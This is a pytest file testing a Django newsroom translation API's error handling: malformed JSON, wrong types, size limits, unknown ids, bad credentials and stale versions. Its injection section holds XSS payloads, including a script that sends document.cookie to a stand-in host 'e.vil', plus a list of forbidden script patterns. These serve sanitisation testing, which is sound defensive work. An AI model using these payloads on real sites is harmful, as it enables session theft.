"""Bad input over the HTTP API: never a 500, always the error shape of API.md.

`{"error": {"code", "message", "details"}}` with 400 (validation), 401 (no or bad
credentials), 404, 409 (stale version), 413 (too large) or 415 (not JSON).
Source HTML is sanitised, and the original kept verbatim for the record.
"""

import json
import random

import pytest
from django.contrib.auth import get_user_model

from editorial import roles
from editorial.models import Article, Job, State
from tests.conftest import PASSWORD, source_payload
from translations.models import Document, Segment

pytestmark = pytest.mark.django_db

ARTICLES = "/api/v1/articles/"
HUGE_ID = 2**70  # matches <int:...> in the URL, but no database integer holds it


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    """Hashing passwords the production way is the slowest part of building users; tests need no strength."""
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def random_ip() -> str:
    """A caller address of its own, so the login throttle never counts other tests' logins (Redis is shared)."""
    return "10." + ".".join(str(random.randint(1, 254)) for _ in range(3))


def assert_error(response, status: int, code: str | None = None) -> dict:
    """The status, and the one error shape of API.md; returns the error."""
    content = response.content
    assert response.status_code == status, f"expected {status}, got {response.status_code}: {content[:500]!r}"
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]
    body = json.loads(content)
    assert isinstance(body, dict) and set(body) == {"error"}, body
    error = body["error"]
    assert isinstance(error, dict) and {"code", "message", "details"} <= set(error), error
    assert isinstance(error["code"], str) and error["code"], error
    assert isinstance(error["message"], str) and error["message"].strip(), error
    assert isinstance(error["details"], dict), error
    if code is not None:
        assert error["code"] == code, error
    return error


def mentions(message: str, number: int) -> bool:
    return str(number) in message or f"{number:,}" in message


# What each write endpoint needs: who calls it, the method, the URL (built from a translation-state article).
ENDPOINTS = {
    "create_article": ("editor", "post", lambda a, u: ARTICLES),
    "update_article": ("editor", "patch", lambda a, u: f"{ARTICLES}{a.pk}/"),
    "action": ("editor", "post", lambda a, u: f"{ARTICLES}{a.pk}/actions/assign/"),
    "segment": ("editor", "patch", lambda a, u: f"{ARTICLES}{a.pk}/segments/{first_segment(a).pk}/"),
    "revert": ("editor", "post", lambda a, u: f"{ARTICLES}{a.pk}/history/{a.revisions.first().revision_id}/revert/"),
    "create_user": ("admin", "post", lambda a, u: "/api/v1/users/"),
    "update_user": ("admin", "patch", lambda a, u: f"/api/v1/users/{u.pk}/"),
    "token": (None, "post", lambda a, u: "/api/v1/auth/token/"),
}
# Revert takes no body; it is not in the lists of endpoints that parse one.
BODY_ENDPOINTS = [name for name in ENDPOINTS if name != "revert"]


def first_segment(article: Article) -> Segment:
    return article.document.segments.order_by("position").first()


@pytest.fixture
def target(make_article, translator):
    """An article in translation (assigned to `translator`), for the endpoints that need one."""
    return make_article(State.TRANSLATION)


@pytest.fixture
def call(api, editor, admin_user, other_translator, target):
    """call(endpoint, raw_body, content_type) -> the response, from the right caller."""
    callers = {"editor": editor, "admin": admin_user, None: None}

    def send(endpoint: str, body, content_type: str = "application/json"):
        who, method, url = ENDPOINTS[endpoint]
        client = api(callers[who])
        return getattr(client, method)(url(target, other_translator), body, content_type=content_type,
                                       REMOTE_ADDR=random_ip())

    return send


def snapshot(target: Article):
    """What a refused request must leave exactly as it was."""
    article = Article.objects.get(pk=target.pk)
    segments = list(Segment.objects.filter(document=article.document).values_list("text", "version"))
    users = list(get_user_model().objects.order_by("pk").values_list("username", "is_active"))
    return (article.state, article.version, article.assignee_id, article.standfirst, segments,
            Article.objects.count(), users)


# Malformed and mis-shaped JSON ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("endpoint", BODY_ENDPOINTS)
@pytest.mark.parametrize("raw", [
    b'{"text": "unfinished',
    b"{'single': 'quotes'}",
    b'{"a": 1,}',
    b"not json at all",
    b'{"text": "\xff\xfe broken utf-8"}',
], ids=["truncated", "single-quotes", "trailing-comma", "prose", "bad-utf8"])
def test_malformed_json_is_400(call, target, endpoint, raw):
    before = snapshot(target)
    assert_error(call(endpoint, raw), 400, "malformed_request")
    assert snapshot(target) == before


@pytest.mark.parametrize("endpoint", BODY_ENDPOINTS)
@pytest.mark.parametrize("raw", ["[]", '[{"text": "x"}]', '"a string"', "42", "true", "null"],
                         ids=["empty-array", "array", "string", "number", "boolean", "null"])
def test_json_that_is_not_an_object_is_400(call, target, endpoint, raw):
    before = snapshot(target)
    assert_error(call(endpoint, raw), 400)
    assert snapshot(target) == before


@pytest.mark.parametrize("endpoint", BODY_ENDPOINTS)
@pytest.mark.parametrize("content_type", [
    "text/plain", "application/x-www-form-urlencoded", "application/xml", "multipart/form-data; boundary=xyz",
])
def test_a_body_that_is_not_json_is_415(call, target, endpoint, content_type):
    before = snapshot(target)
    assert_error(call(endpoint, "title=x&body=y", content_type), 415, "unsupported_media_type")
    assert snapshot(target) == before


@pytest.mark.parametrize("endpoint, raw", [
    ("segment", "[" * 50_000 + "]" * 50_000),
    ("create_article", '{"source": ' * 20_000 + "1" + "}" * 20_000),
], ids=["arrays", "objects"])
def test_deeply_nested_json_is_400_not_500(call, target, endpoint, raw):
    """A small body that nests too deep for the JSON parser is malformed input, not a server error."""
    before = snapshot(target)
    assert_error(call(endpoint, raw), 400)
    assert snapshot(target) == before


# Wrong types and missing fields --------------------------------------------------------------------------------------


def segment_url(article: Article, segment: Segment) -> str:
    return f"{ARTICLES}{article.pk}/segments/{segment.pk}/"


@pytest.mark.parametrize("change, field", [
    ({"text": 123}, "text"),
    ({"text": True}, "text"),
    ({"text": ["a"]}, "text"),
    ({"text": {"en": "a"}}, "text"),
    ({"text": None}, "text"),
    ({"text": "nul \x00 byte"}, "text"),
    ({"version": "3"}, "version"),
    ({"version": True}, "version"),
    ({"version": 2.5}, "version"),
    ({"version": 0}, "version"),
    ({"version": -1}, "version"),
    ({"version": None}, "version"),
    ({"version": [1]}, "version"),
    ({"version": "DROP"}, "version"),
    ({"text": "DROP"}, "text"),
], ids=lambda v: repr(v)[:40])
def test_segment_patch_rejects_wrong_types_and_missing_fields(api, editor, target, change, field):
    segment = first_segment(target)
    body = {"text": "Ceasefire holds in Jasim", "version": segment.version, **change}
    body = {key: value for key, value in body.items() if value != "DROP"}
    before = snapshot(target)
    error = assert_error(api(editor).patch(segment_url(target, segment), body, format="json"), 400)
    assert field in error["details"], error
    assert snapshot(target) == before


@pytest.mark.parametrize("change, field", [
    ({"version": "3"}, "version"),
    ({"version": True}, "version"),
    ({"version": None}, "version"),
    ({"version": "DROP"}, "version"),
    ({"keywords": "x"}, "keywords"),
    ({"keywords": [1, 2]}, "keywords"),
    ({"keywords": {"a": "b"}}, "keywords"),
    ({"keywords": [f"k{i}" for i in range(21)]}, "keywords"),
    ({"keywords": ["k" * 101]}, "keywords"),
    ({"standfirst": 5}, "standfirst"),
    ({"standfirst": ["a"]}, "standfirst"),
], ids=lambda v: repr(v)[:40])
def test_article_patch_rejects_wrong_types(api, editor, target, change, field):
    body = {"version": target.version, "standfirst": "Four days of escalation ended.", **change}
    body = {key: value for key, value in body.items() if value != "DROP"}
    before = snapshot(target)
    error = assert_error(api(editor).patch(f"{ARTICLES}{target.pk}/", body, format="json"), 400)
    assert field in error["details"], error
    assert snapshot(target) == before


def nested(path: str, value):
    """{"source": {"title": value}} from "source.title"."""
    keys = path.split(".")
    result = value
    for key in reversed(keys):
        result = {key: result}
    return result


def with_change(payload: dict, path: str, value) -> dict:
    """The payload with `path` set to `value` (or removed when value is "DROP")."""
    payload = json.loads(json.dumps(payload))
    *parents, last = path.split(".")
    node = payload
    for key in parents:
        node = node[key]
    if value == "DROP":
        del node[last]
    else:
        node[last] = value
    return payload


@pytest.mark.parametrize("path, value, field", [
    # Required: title, outlet, body and language.
    ("source.title", "DROP", "source.title"),
    ("source.outlet", "DROP", "source.outlet"),
    ("source.body", "DROP", "source.body"),
    ("source.language", "DROP", "source.language"),
    ("source", "DROP", "source"),
    ("source.title", "", "source.title"),
    ("source.body", "", "source.body"),
    # Wrong types.
    ("source", "an article", "source"),
    ("source", ["a"], "source"),
    ("source.title", 123, "source.title"),
    ("source.body", 123, "source.body"),
    ("source.body", ["a paragraph"], "source.body"),
    ("source.outlet", None, "source.outlet"),
    ("source.language", 7, "source.language"),
    ("source.language", "Arabic", "source.language"),
    ("source.url", "not a url", "source.url"),
    ("source.url", "javascript:alert(1)", "source.url"),
    ("source.published_at", "yesterday", "source.published_at"),
    ("source.published_at", 12345, "source.published_at"),
    ("target_language", 5, "target_language"),
    ("keywords", "x", "keywords"),
    ("keywords", [1], "keywords"),
    ("keywords", [f"k{i}" for i in range(21)], "keywords"),
    ("standfirst", 5, "standfirst"),
    # Text that is no text.
    ("source.title", "nul \x00 byte", "source.title"),
    ("source.body", "nul \x00 byte", "source.body"),
    ("source.title", "<b></b><script>alert(1)</script>", "source.title"),
    ("source.body", "   \n\n   ", "source.body"),
    ("source.body", "<script>alert(1)</script><img src=x onerror=alert(2)>", "source.body"),
], ids=lambda v: repr(v)[:40])
def test_create_article_rejects_missing_and_wrong_fields(api, editor, path, value, field):
    # No address: without a body, the page at the address would be read instead (test_watch covers that).
    payload = with_change(source_payload(url=""), path, value)
    response = api(editor).post(ARTICLES, payload, format="json")
    error = assert_error(response, 400)
    node = error["details"]
    for key in field.split("."):
        assert isinstance(node, dict) and key in node, f"details do not name {field}: {error}"
        node = node[key]
    assert Article.objects.count() == 0 and Document.objects.count() == 0


@pytest.mark.parametrize("body, field", [
    ({"comment": 123}, "comment"),
    ({"comment": ["why"]}, "comment"),
    ({"assignee": 5}, "assignee"),
    ({"assignee": ["rana"]}, "assignee"),
    ({"assignee": "ghost"}, "assignee"),
    ({"assignee": "layla-not-here"}, "assignee"),
    ({"assignee": ""}, "assignee"),
    ({}, "assignee"),
    ({"assignee": "rana", "publish_at": "tomorrow"}, "publish_at"),
    ({"assignee": "rana", "publish_at": 5}, "publish_at"),
], ids=lambda v: repr(v)[:40])
def test_action_rejects_wrong_types(api, editor, other_translator, target, body, field):
    before = snapshot(target)
    response = api(editor).post(f"{ARTICLES}{target.pk}/actions/assign/", body, format="json")
    error = assert_error(response, 400)
    assert field in error["details"], error
    assert snapshot(target) == before


@pytest.mark.parametrize("change, field", [
    ({"role": "overlord"}, "role"),
    ({"role": "Admin"}, "role"),
    ({"role": 1}, "role"),
    ({"role": None}, "role"),
    ({"role": "DROP"}, "role"),
    ({"username": "DROP"}, "username"),
    ({"password": "DROP"}, "password"),
    ({"username": "sami"}, "username"),
    ({"username": "SAMI"}, "username"),
    ({"username": "no spaces allowed"}, "username"),
    ({"username": 42}, "username"),
    ({"password": "abc"}, "password"),
    ({"password": 12345678}, "password"),
    ({"email": "not-an-email"}, "email"),
], ids=lambda v: repr(v)[:40])
def test_create_user_rejects_bad_fields(api, admin_user, translator, change, field):
    body = {"username": "nadia", "password": "Tr4nslate-all-day", "email": "nadia@example.org", "role": "editor",
            **change}
    body = {key: value for key, value in body.items() if value != "DROP"}
    users_before = get_user_model().objects.count()
    error = assert_error(api(admin_user).post("/api/v1/users/", body, format="json"), 400)
    assert field in error["details"], error
    assert get_user_model().objects.count() == users_before


@pytest.mark.parametrize("body, field", [
    ({"is_active": "yes"}, "is_active"),
    ({"is_active": 1}, "is_active"),
    ({"is_active": "false"}, "is_active"),
    ({"is_active": None}, "is_active"),
    ({"role": "chief"}, "role"),
    ({"role": ["admin"]}, "role"),
], ids=lambda v: repr(v)[:40])
def test_update_user_rejects_wrong_types(api, admin_user, other_translator, body, field):
    error = assert_error(api(admin_user).patch(f"/api/v1/users/{other_translator.pk}/", body, format="json"), 400)
    assert field in error["details"], error
    other_translator.refresh_from_db()
    assert other_translator.is_active and roles.role_of(other_translator) == "translator"


@pytest.mark.parametrize("url", [
    f"{ARTICLES}?state=bogus",
    f"{ARTICLES}?state=<script>",
])
def test_article_list_rejects_an_unknown_state(api, editor, url):
    error = assert_error(api(editor).get(url), 400)
    assert "state" in error["details"]


@pytest.mark.parametrize("query, field", [
    ("", "from"),
    ("?from=abc", "from"),
    ("?from=1.5", "from"),
    ("?from=1&to=abc", "to"),
])
def test_diff_rejects_bad_revision_parameters(api, editor, target, query, field):
    error = assert_error(api(editor).get(f"{ARTICLES}{target.pk}/diff/{query}"), 400)
    assert field in error["details"], error


# Too large -----------------------------------------------------------------------------------------------------------


def test_a_request_body_above_the_byte_limit_is_413(api, editor, target, settings):
    settings.MAX_REQUEST_BYTES = 4000
    payload = source_payload(body="كلمة " * 1000)  # 5,000 characters, about 9,000 bytes
    size = len(json.dumps(payload).encode())
    assert size > 4000
    error = assert_error(api(editor).post(ARTICLES, payload, format="json"), 413, "too_large")
    assert mentions(error["message"], 4000) and "byte" in error["message"], error["message"]
    assert Article.objects.count() == 1  # only `target`

    segment = first_segment(target)
    before = snapshot(target)
    body = {"text": "x" * 5000, "version": segment.version}
    assert_error(api(editor).patch(segment_url(target, segment), body, format="json"), 413, "too_large")
    assert snapshot(target) == before


def test_a_source_body_above_the_character_limit_is_413(api, editor, settings):
    settings.MAX_SOURCE_BODY_CHARS = 500
    assert settings.MAX_REQUEST_BYTES > 10_000
    too_long = source_payload(body="نص " * 167)  # 501 characters
    assert len(too_long["source"]["body"]) == 501
    error = assert_error(api(editor).post(ARTICLES, too_long, format="json"), 413, "too_large")
    assert mentions(error["message"], 500) and "character" in error["message"], error["message"]
    assert Article.objects.count() == 0

    at_limit = source_payload(body=("نص " * 167)[:500])
    assert api(editor).post(ARTICLES, at_limit, format="json").status_code == 201


def test_too_many_segments_is_413(api, editor, settings):
    settings.MAX_SEGMENTS = 5
    payload = source_payload(paragraphs=5)  # a title and five paragraphs: six segments
    error = assert_error(api(editor).post(ARTICLES, payload, format="json"), 413, "too_large")
    assert mentions(error["message"], 5), error["message"]
    assert Article.objects.count() == 0


def test_segment_text_above_the_character_limit_is_413(api, translator, target, settings):
    settings.MAX_SEGMENT_CHARS = 100
    segment = first_segment(target)
    before = snapshot(target)
    body = {"text": "ي" * 101, "version": segment.version}
    error = assert_error(api(translator).patch(segment_url(target, segment), body, format="json"), 413, "too_large")
    assert mentions(error["message"], 100) and "character" in error["message"], error["message"]
    assert snapshot(target) == before

    body = {"text": "ي" * 100, "version": segment.version}
    response = api(translator).patch(segment_url(target, segment), body, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["text"] == "ي" * 100


# Unknown ids ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("missing", [999_999, HUGE_ID], ids=["absent", "huge"])
@pytest.mark.parametrize("method, url, body", [
    ("get", "/api/v1/articles/{id}/", None),
    ("patch", "/api/v1/articles/{id}/", {"version": 1, "standfirst": "x"}),
    ("post", "/api/v1/articles/{id}/actions/claim/", {}),
    ("post", "/api/v1/articles/{id}/actions/teleport/", {}),
    ("patch", "/api/v1/articles/{id}/segments/1/", {"text": "x", "version": 1}),
    ("get", "/api/v1/articles/{id}/history/", None),
    ("get", "/api/v1/articles/{id}/history/1/", None),
    ("post", "/api/v1/articles/{id}/history/1/revert/", None),
    ("get", "/api/v1/articles/{id}/diff/?from=1", None),
    ("get", "/api/v1/jobs/{id}/", None),
    ("patch", "/api/v1/users/{id}/", {"role": "editor"}),
], ids=lambda v: v if isinstance(v, str) else None)
def test_unknown_ids_are_404(api, admin_user, method, url, body, missing):
    client = api(admin_user)
    kwargs = {"format": "json"} if body is not None else {}
    response = getattr(client, method)(url.format(id=missing), body, **kwargs)
    assert_error(response, 404)


@pytest.mark.parametrize("segment_id", ["absent", "huge", "other-article"])
def test_unknown_segment_is_404(api, editor, target, make_article, segment_id):
    ids = {"absent": 999_999, "huge": HUGE_ID}
    if segment_id == "other-article":
        ids["other-article"] = first_segment(make_article(State.EDITING)).pk
    before = snapshot(target)
    response = api(editor).patch(f"{ARTICLES}{target.pk}/segments/{ids[segment_id]}/",
                                 {"text": "x", "version": 1}, format="json")
    assert_error(response, 404)
    assert snapshot(target) == before


@pytest.mark.parametrize("revision", ["absent", "huge", "other-article"])
@pytest.mark.parametrize("endpoint", ["revision", "diff-from", "diff-to", "revert"])
def test_unknown_revision_is_404(api, editor, target, make_article, endpoint, revision):
    ids = {"absent": 999_999, "huge": HUGE_ID}
    if revision == "other-article":
        ids["other-article"] = make_article(State.SOURCE).revisions.first().revision_id
    rev = ids[revision]
    good = target.revisions.first().revision_id
    client = api(editor)
    before = snapshot(target)
    response = {
        "revision": lambda: client.get(f"{ARTICLES}{target.pk}/history/{rev}/"),
        "diff-from": lambda: client.get(f"{ARTICLES}{target.pk}/diff/?from={rev}"),
        "diff-to": lambda: client.get(f"{ARTICLES}{target.pk}/diff/?from={good}&to={rev}"),
        "revert": lambda: client.post(f"{ARTICLES}{target.pk}/history/{rev}/revert/"),
    }[endpoint]()
    assert_error(response, 404)
    assert snapshot(target) == before


def test_unknown_job_is_404(api, editor, make_article):
    article = make_article(State.SOURCE)
    job = api(editor).post(f"{ARTICLES}{article.pk}/actions/draft/", {}, format="json").json()["job"]
    assert api(editor).get(f"/api/v1/jobs/{job['id']}/").status_code == 200
    assert_error(api(editor).get(f"/api/v1/jobs/{job['id'] + 1000}/"), 404)
    assert Job.objects.count() == 1


@pytest.mark.parametrize("url", ["/api/v1/articles/abc/", "/api/v1/articles/-1/", "/api/v1/nothing-here/",
                                 "/api/v1/articles/1/segments/x/"])
def test_addresses_that_match_nothing_are_404_in_the_error_shape(api, editor, url):
    assert_error(api(editor).get(url), 404)


# Credentials ---------------------------------------------------------------------------------------------------------


def login(api, body, content_type="application/json"):
    raw = body if isinstance(body, str) else json.dumps(body)
    return api().post("/api/v1/auth/token/", raw, content_type=content_type, REMOTE_ADDR=random_ip())


@pytest.mark.parametrize("body", [
    {"username": "sami", "password": "wrong-password"},
    {"username": "sami", "password": PASSWORD.upper()},
    {"username": "nobody", "password": PASSWORD},
    {"username": "SAMI ", "password": PASSWORD + " "},
], ids=["wrong-password", "wrong-case", "unknown-user", "padded"])
def test_wrong_credentials_are_401(api, translator, body):
    assert_error(login(api, body), 401)  # the error shape and nothing else: no token


def test_a_disabled_account_cannot_log_in(api, translator):
    translator.is_active = False
    translator.save()
    assert_error(login(api, {"username": "sami", "password": PASSWORD}), 401)


@pytest.mark.parametrize("body, field", [
    ({"username": "sami"}, "password"),
    ({"password": PASSWORD}, "username"),
    ({"username": 1, "password": PASSWORD}, "username"),
    ({"username": "sami", "password": None}, "password"),
])
def test_login_with_missing_or_mistyped_fields_is_400(api, translator, body, field):
    error = assert_error(login(api, body), 400)
    assert field in error["details"]


@pytest.mark.parametrize("user_fixture, role", [("translator", "translator"), ("editor", "editor"),
                                                 ("admin_user", "admin")])
def test_a_good_login_gives_a_token_and_the_role(api, request, user_fixture, role):
    user = request.getfixturevalue(user_fixture)
    response = login(api, {"username": user.username, "password": PASSWORD})
    assert response.status_code == 200, response.content
    body = response.json()
    assert isinstance(body["token"], str) and len(body["token"]) >= 20
    assert body["user"] == {"id": user.pk, "username": user.username, "role": role}
    client = api()
    client.credentials(HTTP_AUTHORIZATION=f"Token {body['token']}")
    assert client.get(ARTICLES).status_code == 200


@pytest.mark.parametrize("header", [
    "Token not-a-real-token", "Token ", "Bearer abc", "Token a b", "Basic Zm9vOmJhcg==",
])
def test_bad_credentials_on_the_api_are_401(api, translator, header):
    client = api()
    client.credentials(HTTP_AUTHORIZATION=header)
    assert_error(client.get(ARTICLES), 401)


# HTML and script injection -------------------------------------------------------------------------------------------

HOSTILE_TITLE = (
    'Jasim <script>alert("title")</script><img src=x onerror=alert(1)> ceasefire <iframe src="//e.vil"></iframe>'
)
HOSTILE_BODY = """<h2 onclick="alert('h')">Roads reopened<script>alert('in heading')</script></h2>
<p>Life returned <img src="x" onerror="alert('p')"> to normal, <a href="javascript:alert('a')">said</a> a source.</p>
<iframe src="https://e.vil/frame" onload="alert('f')"></iframe>
<p onmouseover="alert(2)">Three detainees <a href="https://example.org/ok">will be freed</a>.</p>
<script type="text/javascript">document.location='https://e.vil/?'+document.cookie</script>
<svg onload=alert(3)></svg><a href="JaVaScRiPt:alert(4)">x</a>
<p><a href=" javascript:alert(5)">Details</a> <object data="javascript:alert(6)"></object></p>"""
FORBIDDEN = ["<script", "</script", "onerror", "onclick", "onload", "onmouseover", "javascript:", "<iframe",
             "<svg", "<object", "<img", "alert(", "document.cookie", "e.vil"]


def test_script_and_handlers_do_not_survive_import(api, editor):
    payload = source_payload(title=HOSTILE_TITLE, body=HOSTILE_BODY)
    response = api(editor).post(ARTICLES, payload, format="json")
    assert response.status_code == 201, response.content
    article_id = response.json()["id"]
    article = api(editor).get(f"{ARTICLES}{article_id}/").json()

    texts = [article["source"]["title"], article["source"]["body"]]
    texts += [segment["source_text"] for segment in article["segments"]]
    for text in texts:
        for bad in FORBIDDEN:
            assert bad not in text.lower(), f"{bad!r} survived in {text!r}"

    kinds = [(segment["kind"], segment["source_text"]) for segment in article["segments"]]
    assert kinds[0] == ("title", "Jasim ceasefire")
    assert kinds[1] == ("heading", "Roads reopened")
    assert [kind for kind, _ in kinds[2:]] == ["paragraph"] * (len(kinds) - 2)
    paragraphs = " ".join(text for _, text in kinds[2:])
    assert "Life returned" in paragraphs and "Three detainees will be freed" in paragraphs
    assert '<a href="https://example.org/ok"' in article["source"]["body"]

    # The original is kept verbatim for the record.
    document = Document.objects.get(article__pk=article_id)
    assert document.original_body == HOSTILE_BODY
    assert document.is_html


# Stale versions ------------------------------------------------------------------------------------------------------


def test_a_stale_segment_version_is_409_and_keeps_the_newer_text(api, translator, editor, target):
    segment = first_segment(target)
    loaded = segment.version
    url = segment_url(target, segment)

    first = api(editor).patch(url, {"text": "Ceasefire ends four days of fighting", "version": loaded}, format="json")
    assert first.status_code == 200, first.content
    assert first.json()["version"] == loaded + 1

    stale = api(translator).patch(url, {"text": "Truce in Jasim", "version": loaded}, format="json")
    error = assert_error(stale, 409)
    details = error["details"]
    assert details["text"] == "Ceasefire ends four days of fighting"
    assert details["version"] == loaded + 1
    assert details["changed_by"] == "layla"

    segment.refresh_from_db()
    assert (segment.text, segment.version, segment.changed_by) == (
        "Ceasefire ends four days of fighting", loaded + 1, editor
    )
    shown = api(translator).get(f"{ARTICLES}{target.pk}/").json()["segments"][0]
    assert (shown["text"], shown["version"]) == ("Ceasefire ends four days of fighting", loaded + 1)

    # With the version it was told about, the translator's edit goes through.
    retry = api(translator).patch(url, {"text": "Truce in Jasim", "version": loaded + 1}, format="json")
    assert retry.status_code == 200 and retry.json()["version"] == loaded + 2


def test_a_stale_article_version_is_409(api, editor, target):
    url = f"{ARTICLES}{target.pk}/"
    version = target.version
    assert api(editor).patch(url, {"version": version, "standfirst": "First"}, format="json").status_code == 200
    error = assert_error(api(editor).patch(url, {"version": version, "standfirst": "Second"}, format="json"), 409)
    assert error["details"]["version"] == version + 1
    assert Article.objects.get(pk=target.pk).standfirst == "First"
